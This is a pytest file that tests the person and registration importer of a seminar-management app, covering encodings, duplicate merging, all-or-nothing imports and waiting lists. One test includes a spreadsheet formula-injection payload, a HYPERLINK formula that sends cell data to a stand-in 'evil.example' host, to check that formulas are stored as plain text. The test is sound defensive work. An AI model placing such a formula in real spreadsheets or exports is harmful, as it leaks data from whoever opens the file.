"""Importing into a real database: all rows or none, duplicates merged, registrations by the rules."""

from __future__ import annotations

import datetime as dt
import unicodedata
from pathlib import Path

import pytest
from sqlalchemy import select

from learninghub.core.models import Person, Registration, email_key, person_sort_key
from learninghub.core.services import people, registration, seats, seminars
from learninghub.importing import ImportRefused, import_people
from tests.databases import snapshot
from tests.importing.conftest import write_csv, write_xlsx

HEADERS = ["姓名", "邮箱", "单位", "城市", "国家", "职务", "电话"]
CHINESE = [HEADERS,
           ["王小明", "wang.xm@example.cn", "成都市规划设计研究院", "成都", "中国", "总规划师", "13800138000"],
           ["欧阳明华", "ouyang@example.cn", "成都开放大学", "成都", "CN", "教授", ""],
           ["赵雪", "", "四川大学", "成都", "中国", "", ""]]


def people_by_email(db) -> dict[str, Person]:  # type: ignore[no-untyped-def]
    with db.reading() as s:
        found = s.scalars(select(Person)).all()
        for p in found:
            _ = (p.organisation, p.city)
        return {p.email or p.native_name or "": p for p in found}


def test_gb18030_file_with_chinese_headers_imported_and_searchable(db, files: Path) -> None:
    plan = import_people(db, write_csv(files / "名单.csv", CHINESE, encoding="gb18030"))
    assert plan.counts["created"] == 3 and not plan.problems
    stored = people_by_email(db)
    wang = stored["wang.xm@example.cn"]
    assert (wang.family_name, wang.given_name, wang.native_name) == ("Wang", "Xiaoming", "王小明")
    assert (wang.organisation.name, wang.city.name, wang.country, wang.title, wang.phone) == (
        "成都市规划设计研究院", "成都", "CN", "总规划师", "13800138000")
    assert wang.sort_key == person_sort_key("Wang", "Xiaoming") and wang.email_key == "wang.xm@example.cn"
    assert wang.version == 1 and wang.role == "other"
    assert stored["赵雪"].email is None and stored["赵雪"].email_key is None
    with db.reading() as s:  # the search index was fed by the bulk insert
        assert [p.native_name for p in people.list_people(s, search_text="欧阳明")] == ["欧阳明华"]
        assert [p.native_name for p in people.list_people(s, search_text="规划设计")] == ["王小明"]
        assert [p.native_name for p in people.list_people(s, search_text="Xiaom")] == ["王小明"]


def test_utf8_bom_semicolon_file(db, files: Path) -> None:
    rows = [["Family name", "Given name", "E-mail", "Organisation", "Country"],
            ["García López", "María", "maria@example.es", "Ajuntament de Barcelona", "Spain"]]
    import_people(db, write_csv(files / "bcn.csv", rows, encoding="utf-8-sig", delimiter=";"))
    maria = people_by_email(db)["maria@example.es"]
    assert (maria.family_name, maria.given_name, maria.country) == ("García López", "María", "ES")


def test_utf16_file(db, files: Path) -> None:
    rows = [["Name", "Email", "Role"], ["한현숙", "han.hs@example.kr", "manager"],
            ["Константин Петров", "kp@example.org", "Urban planner"]]
    import_people(db, write_csv(files / "u16.csv", rows, encoding="utf-16", delimiter="\t"))
    stored = people_by_email(db)
    assert (stored["han.hs@example.kr"].native_name, stored["han.hs@example.kr"].role) == ("한현숙", "manager")
    assert (stored["kp@example.org"].family_name, stored["kp@example.org"].role) == ("Петров", "planner")


def test_three_bad_rows_import_nothing_and_say_exactly_where(db, hub, files: Path) -> None:
    rows = [["Name", "Email", "Country", "Registration date"],
            ["Ana Ruiz", "ana@example.es", "ES", "2020-06-01"],
            ["Jia Li", "li.jia@", "CN", "2020-06-02"],  # row 3
            ["Tom Berg", "tom@example.se", "Sweden", "2020-06-03"],
            ["", "nobody@example.org", "", ""],  # row 5
            ["Eva Novak", "eva@example.cz", "CZ", "the 31st of Smarch"],  # row 6
            ["Lu Wei", "lu@example.cn", "CN", "2020-06-05"]]
    path = write_csv(files / "bad.csv", rows)
    before = snapshot(db)
    dry = import_people(db, path, dry_run=True, seminar_id=hub.seminar)
    assert [str(p) for p in dry.problems] == [
        "row 3, column Email: 'li.jia@' is not an email address",
        "row 5, column Name: no name: a person needs at least a family or given name",
        "row 6, column Registration date: 'the 31st of Smarch' is not a date (write it like 2020-07-15)",
    ]
    with pytest.raises(ImportRefused, match="bad.csv: 3 problems, nothing was imported: row 3, column Email"):
        import_people(db, path, seminar_id=hub.seminar)
    assert snapshot(db) == before


def test_dry_run_changes_nothing_and_agrees_with_the_import(db, hub, files: Path) -> None:
    path = write_csv(files / "x.csv", CHINESE, encoding="gb18030")
    before = snapshot(db)
    dry = import_people(db, path, dry_run=True, seminar_id=hub.seminar)
    assert snapshot(db) == before
    real = import_people(db, path, seminar_id=hub.seminar)
    assert dry.counts == real.counts
    assert [(r.row, r.action, r.registration) for r in dry.rows] == [(r.row, r.action, r.registration)
                                                                       for r in real.rows]


def test_duplicates_against_the_database_update_or_skip_never_double(db, hub, files: Path) -> None:
    rows = [["Name", "Email", "Organisation", "Title"],
            ["LI Jia", "LI.JIA@EXAMPLE.CN", "Chengdu Foreign Affairs Office", "Director"],  # same email: update
            ["Han Hyeon-suk", "ｈａｎ@example.kr", "", ""],  # NFKC + case-folded email: nothing new, skip
            ["Zoe Zhang", "zoe@example.cn", "", ""]]
    path = write_csv(files / "dups.csv", rows)
    kept = import_people(db, path)  # by default a known person is matched and kept as stored
    assert [(r.row, r.action, r.person_id) for r in kept.rows] == [
        (2, "keep", hub.li), (3, "skip", hub.han), (4, "create", kept.created_ids[0])]
    assert kept.rows[0].differences == [("title", None, "Director")]  # the name reads the same; only the title
    with db.reading() as s:
        assert people.get_person(s, hub.li).title is None
    plan = import_people(db, path, update_existing=True)
    assert [(r.row, r.action, r.person_id) for r in plan.rows] == [
        (2, "update", hub.li), (3, "skip", hub.han), (4, "skip", kept.created_ids[0])]
    assert plan.rows[0].changes == ["title"]
    with db.reading() as s:
        assert s.query(Person).count() == 4
        li = people.get_person(s, hub.li)
        assert (li.title, li.email, li.native_name, li.version) == ("Director", "li.jia@example.cn", "李佳", 2)


def test_same_name_and_organisation_is_the_same_person_without_email(db, hub, files: Path) -> None:
    rows = [["Family name", "Given name", "Organisation", "Phone"],
            ["li", "JIA", "chengdu foreign affairs office", "+86 28 1234"],  # matches Li Jia without an email
            ["Li", "Jia", "Sichuan University", ""]]  # same name, other organisation: someone else
    plan = import_people(db, write_csv(files / "names.csv", rows), update_existing=True)
    assert [(r.action, r.person_id) for r in plan.rows] == [("update", hub.li), ("create", plan.created_ids[0])]


def test_duplicates_within_the_file_are_merged(db, files: Path) -> None:
    rows = [["Name", "Email", "Organisation", "Phone"],
            ["Ana Ruiz", "ana@example.es", "Ajuntament de Barcelona", ""],
            ["Ana RUIZ", "Ana@Example.ES", "", "+34 93 000"],  # same email: fills the phone
            ["Lu Wei", "", "Tongji University", ""],
            ["Lu Wei", "", "tongji university", ""]]  # same name + organisation
    plan = import_people(db, write_csv(files / "twice.csv", rows))
    assert [(r.row, r.action, r.merged_into) for r in plan.rows] == [
        (2, "create", None), (3, "merged", 2), (4, "create", None), (5, "merged", 4)]
    stored = people_by_email(db)
    assert len(stored) == 2 and stored["ana@example.es"].phone == "+34 93 000"


def test_formulas_are_stored_as_plain_text(db, files: Path) -> None:
    formula = '=HYPERLINK("http://evil.example/?x="&A2,"Click me")'
    rows = [["Name", "Email", "Organisation", "Notes"],
            ["Jia Li", "jl@example.cn", formula, "+1 call back"],
            ["Ana Ruiz", "ar@example.es", "@SUM(1+1)", "-2"]]
    import_people(db, write_xlsx(files / "formulas.xlsx", rows))
    import_people(db, write_csv(files / "formulas.csv", [rows[0], ["Tom Berg", "tb@example.se", formula, "=1+1"]]))
    stored = people_by_email(db)
    assert stored["jl@example.cn"].organisation.name == formula
    assert stored["jl@example.cn"].notes == "+1 call back"
    assert (stored["ar@example.es"].organisation.name, stored["ar@example.es"].notes) == ("@SUM(1+1)", "-2")
    assert stored["tb@example.se"].notes == "=1+1"


def test_registration_to_a_full_seminar_goes_to_the_waiting_list(db, hub, files: Path) -> None:
    with db.transaction() as s:  # capacity 2: Han and Petrov take both seats
        registration.register(s, seminar_id=hub.seminar, person_id=hub.han)
        registration.register(s, seminar_id=hub.seminar, person_id=hub.kostya)
    rows = [["Name", "Email", "Date"],
            ["Jia Li", "li.jia@example.cn", "2020-06-20"],
            ["Ana Ruiz", "ana@example.es", "21/06/2020"],
            ["Han Hyeon-suk", "han@example.kr", ""]]  # already registered: left as is
    plan = import_people(db, write_csv(files / "reg.csv", rows), seminar_id=hub.seminar)
    assert [r.registration for r in plan.rows] == ["waitlisted", "waitlisted", None]
    assert (plan.counts["registered"], plan.counts["waitlisted"]) == (0, 2)
    with db.reading() as s:
        waiting = seats.waiting_list(s, hub.seminar)
        assert [w.person_id for w in waiting] == [hub.li, plan.created_ids[0]]  # file order is queue order
        assert waiting[0].events[0].note == "seminar full (2 seats): put on the waiting list"
        assert waiting[1].created_at.date() == dt.date(2020, 6, 20)  # midnight in Chengdu = 16:00 UTC the day before
        assert waiting[1].created_at == dt.datetime(2020, 6, 20, 16, 0, tzinfo=dt.UTC)


def test_registration_with_seats_free_then_full(db, hub, files: Path) -> None:
    rows = [["Name", "Email"], ["Jia Li", "li.jia@example.cn"], ["Ana Ruiz", "ana@example.es"],
            ["Tom Berg", "tom@example.se"]]
    plan = import_people(db, write_csv(files / "reg.csv", rows), seminar_id=hub.seminar, status="confirmed")
    assert [r.registration for r in plan.rows] == ["confirmed", "confirmed", "waitlisted"]
    with db.reading() as s:
        statuses = {r.person_id: r.status for r in s.scalars(select(Registration))}
        assert sorted(statuses.values()) == ["confirmed", "confirmed", "waitlisted"]


def test_cancelled_seminar_and_unknown_seminar_refused(db, hub, files: Path) -> None:
    path = write_csv(files / "x.csv", [["Name"], ["Ana Ruiz"]])
    with pytest.raises(Exception, match="there is no seminar with id 999"):
        import_people(db, path, seminar_id=999)
    with db.transaction() as s:
        seminars.cancel_seminar(s, hub.seminar)
    with pytest.raises(Exception, match="is cancelled"):
        import_people(db, path, seminar_id=hub.seminar)


def test_email_key_is_the_models_own(db, files: Path) -> None:
    address = "Ｍａｒｉａ@Example.ES"
    import_people(db, write_csv(files / "k.csv", [["Name", "Email"], ["María García", address]]))
    with db.reading() as s:
        person = s.scalars(select(Person)).one()
    assert person.email_key == email_key(address) == unicodedata.normalize("NFKC", address).casefold()


def test_existing_registrations_change_through_the_core_rules(db, hub, files: Path) -> None:
    with db.transaction() as s:
        registration.register(s, seminar_id=hub.seminar, person_id=hub.han)
        registration.register(s, seminar_id=hub.seminar, person_id=hub.kostya, status="cancelled")
        registration.register(s, seminar_id=hub.seminar, person_id=hub.li)
    # Full (Han, Li). Petrov's cancelled registration comes back: the seminar is full, so the waiting list.
    rows = [["Name", "Email"], ["Konstantin Petrov", "k.petrov@example.org"], ["Jia Li", "li.jia@example.cn"]]
    plan = import_people(db, write_csv(files / "again.csv", rows), seminar_id=hub.seminar)
    assert [r.registration for r in plan.rows] == ["waitlisted", None]
    with db.reading() as s:
        petrov = registration.list_registrations(s, seminar_id=hub.seminar, person_id=hub.kostya)[0]
        assert [(e.old_status, e.new_status) for e in petrov.events] == [(None, "cancelled"),
                                                                          ("cancelled", "waitlisted")]


def test_chinese_family_and_given_columns(db, files: Path) -> None:
    rows = [["姓", "名", "电子邮件", "国家"], ["欧阳", "明华", "oy@example.cn", "中华人民共和国"]]
    import_people(db, write_csv(files / "split.csv", rows, encoding="gb18030"))
    person = people_by_email(db)["oy@example.cn"]
    assert (person.family_name, person.given_name, person.native_name, person.country) == (
        "Ouyang", "Minghua", "欧阳明华", "CN")


def test_cancel_midway_rolls_everything_back(db, hub, files: Path) -> None:
    """The app's Cancel raises from the progress callback; the one transaction then leaves nothing."""
    rows = [["Name", "Email"], *[[f"Person {i}", f"p{i}@example.org"] for i in range(50)]]
    path = write_csv(files / "many.csv", rows)
    before = snapshot(db)
    calls: list[tuple[int, int]] = []

    class Cancelled(Exception):
        pass

    def progress(done: int, total: int) -> None:
        calls.append((done, total))
        if len(calls) > 1 and calls[-1][0] == total:  # after the people went in, before the commit
            raise Cancelled

    with pytest.raises(Cancelled):
        import_people(db, path, seminar_id=hub.seminar, progress=progress)
    assert snapshot(db) == before


def test_one_stored_person_is_matched_by_one_row_only(db, hub, files: Path) -> None:
    """Two rows of one name and organisation but different addresses are two people: the stored
    Li Jia (whose address is cleared here) stands for the first one only."""
    with db.transaction() as s:
        people.edit_person(s, hub.li, email=None)
    rows = [["Family name", "Given name", "Organisation", "Email"],
            ["Li", "Jia", "Chengdu Foreign Affairs Office", "jia.li.1@example.cn"],
            ["Li", "Jia", "Chengdu Foreign Affairs Office", "jia.li.2@example.cn"]]
    plan = import_people(db, write_csv(files / "two.csv", rows))
    assert [(r.action, r.person_id, r.reason) for r in plan.rows] == [
        ("keep", hub.li, "same name and organisation"), ("create", plan.created_ids[0], "")]


def test_organisations_and_cities_reused_or_created_once(db, hub, files: Path) -> None:
    from learninghub.core.models import City, Organisation

    with db.reading() as s:
        orgs_before = s.query(Organisation).count()
        chengdu = s.scalars(select(City).where(City.name == "Chengdu")).one()
    rows = [["Name", "Organisation", "City", "Country"],
            ["Ana Ruiz", "CHENGDU FOREIGN AFFAIRS OFFICE", "chengdu", "CN"],  # both known, any case
            ["Tom Berg", "Tongji University", "Chengdu", ""],  # known city, no country: the known one
            ["Eva Novak", "tongji university", "Chengdu", "US"],  # a Chengdu elsewhere: a new city
            ["Lu Wei", "Tongji University", "Shanghai", "CN"]]
    plan = import_people(db, write_csv(files / "places.csv", rows))
    with db.reading() as s:
        got = {p.id: p for p in s.scalars(select(Person).where(Person.id.in_(plan.created_ids)))}
        ana, tom, eva, lu = (got[i] for i in plan.created_ids)
        assert ana.city_id == tom.city_id == chengdu.id and eva.city.country == "US" and eva.city_id != chengdu.id
        assert ana.organisation.name == "Chengdu Foreign Affairs Office"
        assert tom.organisation_id == eva.organisation_id == lu.organisation_id
        assert s.query(Organisation).count() == orgs_before + 1


def test_xlsx_with_a_date_column_dates_the_registrations(db, hub, files: Path) -> None:
    rows = [["Family name", "Given name", "Email", "Registration date"],
            ["Ruiz", "Ana", "ana@example.es", dt.datetime(2020, 6, 1, 0, 0)],  # an Excel date cell
            ["Berg", "Tom", "tom@example.se", "2020年6月2日"],  # typed as text, Chinese style
            ["Novak", "Eva", "eva@example.cz", None]]
    plan = import_people(db, write_xlsx(files / "dated.xlsx", rows), seminar_id=hub.seminar)
    assert plan.counts["created"] == 3 and plan.counts["registered"] == 2 and plan.counts["waitlisted"] == 1
    with db.reading() as s:
        created = {r.person_id: r.created_at for r in s.scalars(select(Registration))}
    shanghai_midnight = dt.timedelta(hours=8)
    ana, tom, eva = plan.created_ids
    assert created[ana] == dt.datetime(2020, 6, 1, tzinfo=dt.UTC) - shanghai_midnight
    assert created[tom] == dt.datetime(2020, 6, 2, tzinfo=dt.UTC) - shanghai_midnight
    assert abs(created[eva] - dt.datetime.now(dt.UTC)) < dt.timedelta(minutes=5)  # no date: when imported


def test_updating_to_an_organisation_an_import_created_with_a_non_ascii_capital(db, hub, files: Path) -> None:
    """SQLite's lower() leaves 'À' alone: the organisation the first import created must still be found."""
    first = [["Name", "Email", "Organisation"], ["Pau Vidal", "pau@example.es", "Àrea Metropolitana"]]
    import_people(db, write_csv(files / "first.csv", first))
    second = [["Name", "Email", "Organisation"], ["Jia Li", "li.jia@example.cn", "Àrea Metropolitana"]]
    plan = import_people(db, write_csv(files / "second.csv", second), update_existing=True)
    assert [(r.action, r.changes) for r in plan.rows] == [("update", ["organisation"])]
    with db.reading() as s:
        pau = s.scalars(select(Person).where(Person.email == "pau@example.es")).one()
        assert people.get_person(s, hub.li).organisation_id == pau.organisation_id
